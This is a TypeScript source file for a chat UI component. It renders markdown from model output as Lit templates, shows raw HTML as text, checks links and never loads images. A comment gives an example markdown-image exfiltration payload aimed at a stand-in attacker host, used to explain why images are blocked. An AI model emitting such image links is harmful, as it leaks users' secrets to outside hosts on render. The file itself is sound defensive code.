// Renders marked's lexer tokens to Lit templates with text and attribute bindings only: model
// output never reaches innerHTML, raw HTML shows as text, links are checked, images never load.

import { html, nothing, type TemplateResult } from 'lit';
import type { Token, Tokens } from 'marked';
import { copyIcon } from '../icons.js';
import type { SchemaChatStrings } from '../schema-chat-strings.js';
import { decodeEntities } from './decode-entities.js';
import { toSafeHref } from './to-safe-href.js';

/** The texts the markdown renderer shows. */
export type MarkdownStrings = Pick<SchemaChatStrings, 'copy' | 'copied' | 'copyFailed' | 'image'>;

/** What rendering needs besides the tokens. */
export interface MarkdownContext {
  strings: MarkdownStrings;
}

/** Something Lit renders in a child position. */
export type Renderable = TemplateResult | string | typeof nothing | Renderable[];

/** Renders one block-level token (paragraph, heading, list, table, code, quote, rule, raw HTML). */
export function renderBlockToken(token: Token, context: MarkdownContext): Renderable {
  const t = token as Tokens.Generic;
  switch (token.type) {
    case 'space':
    case 'def':
      return nothing;
    case 'paragraph':
      return html`<p>${renderInlineTokens(t.tokens, context)}</p>`;
    case 'heading': {
      const level = Math.min(6, Number(t.depth) + 2);
      return html`<p class="heading h${t.depth}" role="heading" aria-level=${level}>${renderInlineTokens(t.tokens, context)}</p>`;
    }
    case 'code':
      return renderCodeBlock(String(t.text ?? ''), t.lang ? String(t.lang) : '', context);
    case 'blockquote':
      return html`<blockquote>${renderBlockTokens(t.tokens, context)}</blockquote>`;
    case 'list':
      return renderList(token as Tokens.List, context);
    case 'table':
      return renderTable(token as Tokens.Table, context);
    case 'hr':
      return html`<hr />`;
    case 'html':
      // Raw HTML is shown, never interpreted.
      return html`<p class="raw">${token.raw}</p>`;
    case 'text':
      // Block-level text: the body of a tight list item.
      return t.tokens ? renderInlineTokens(t.tokens, context) : decodeEntities(String(t.text));
    default:
      // Token types a future marked adds: safe as text.
      return html`<p>${token.raw}</p>`;
  }
}

/** Renders a sequence of block tokens. */
export function renderBlockTokens(
  tokens: Token[] | undefined,
  context: MarkdownContext,
): Renderable {
  return (tokens ?? []).map((token) => renderBlockToken(token, context));
}

/** Renders inline tokens (text, emphasis, code spans, links, images as text, breaks). */
export function renderInlineTokens(
  tokens: Token[] | undefined,
  context: MarkdownContext,
): Renderable {
  return (tokens ?? []).map((token) => renderInlineToken(token, context));
}

function renderInlineToken(token: Token, context: MarkdownContext): Renderable {
  const t = token as Tokens.Generic;
  switch (token.type) {
    case 'text':
      return t.tokens
        ? renderInlineTokens(t.tokens, context)
        : t.escaped
          ? String(t.text)
          : decodeEntities(String(t.text));
    case 'escape':
      return String(t.text);
    case 'strong':
      return html`<strong>${renderInlineTokens(t.tokens, context)}</strong>`;
    case 'em':
      return html`<em>${renderInlineTokens(t.tokens, context)}</em>`;
    case 'del':
      return html`<del>${renderInlineTokens(t.tokens, context)}</del>`;
    case 'codespan':
      // Character references are literal inside code spans (CommonMark 6.1).
      return html`<code>${String(t.text)}</code>`;
    case 'br':
      return html`<br />`;
    case 'link':
      return renderLink(token as Tokens.Link, context);
    case 'image':
      return renderImage(token as Tokens.Image, context);
    case 'checkbox':
      return t.checked ? '☑ ' : '☐ ';
    case 'html':
      return token.raw;
    default:
      return token.raw;
  }
}

function renderLink(token: Tokens.Link, context: MarkdownContext): Renderable {
  // Autolinks are literal: marked does not resolve character references in them.
  const href = toSafeHref(token.href, !token.autolink);
  const label = token.autolink ? token.text : renderInlineTokens(token.tokens, context);
  if (!href) return label;
  const title = token.title ? decodeEntities(token.title) : undefined;
  return html`<a part="link" href=${href} title=${title ?? nothing} target="_blank" rel="noopener noreferrer nofollow">${label}</a>`;
}

function renderImage(token: Tokens.Image, context: MarkdownContext): Renderable {
  // Never loaded: a remote image in model output is a data-exfiltration channel
  // (`![x](https://evil.example/?q=<secret>)` leaks on render, no click needed).
  const alt = decodeEntities(token.text ?? '');
  return html`<span class="image-alt">[${context.strings.image}${alt ? `: ${alt}` : ''}]</span>`;
}

function renderList(token: Tokens.List, context: MarkdownContext): Renderable {
  const items = token.items.map(
    (item) => html`<li>${renderBlockTokens(item.tokens, context)}</li>`,
  );
  if (!token.ordered) return html`<ul>${items}</ul>`;
  const start = typeof token.start === 'number' && token.start !== 1 ? token.start : nothing;
  return html`<ol start=${start}>${items}</ol>`;
}

function renderTable(token: Tokens.Table, context: MarkdownContext): Renderable {
  const cellClass = (align: string | null) => (align ? `align-${align}` : '');
  return html`<div class="table-wrap"><table>
    <thead><tr>${token.header.map(
      (cell) =>
        html`<th class=${cellClass(cell.align)}>${renderInlineTokens(cell.tokens, context)}</th>`,
    )}</tr></thead>
    <tbody>${token.rows.map(
      (row) =>
        html`<tr>${row.map(
          (cell) =>
            html`<td class=${cellClass(cell.align)}>${renderInlineTokens(cell.tokens, context)}</td>`,
        )}</tr>`,
    )}</tbody>
  </table></div>`;
}

function renderCodeBlock(code: string, lang: string, context: MarkdownContext): TemplateResult {
  const { copy } = context.strings;
  return html`<div class="code-block" part="code-block">
    <div class="code-bar"><span class="code-lang">${lang}</span><button
      type="button"
      class="copy"
      part="button copy-button"
      aria-label=${copy}
      title=${copy}
      @click=${(event: Event) => copyCode(event.currentTarget as HTMLButtonElement, code, context)}
    >${copyIcon}</button></div>
    <pre><code>${code}</code></pre>
  </div>`;
}

/** Copies a code block through the Clipboard API and says so on the button for a moment. */
async function copyCode(
  button: HTMLButtonElement,
  code: string,
  context: MarkdownContext,
): Promise<void> {
  const { copy, copied, copyFailed } = context.strings;
  let label = copied;
  try {
    await navigator.clipboard.writeText(code);
    button.dataset.state = 'copied';
  } catch {
    // Permission denied or no secure context: say so rather than pretend.
    label = copyFailed;
    button.dataset.state = 'failed';
  }
  button.setAttribute('aria-label', label);
  button.title = label;
  setTimeout(() => {
    button.setAttribute('aria-label', copy);
    button.title = copy;
    delete button.dataset.state;
  }, 1500);
}
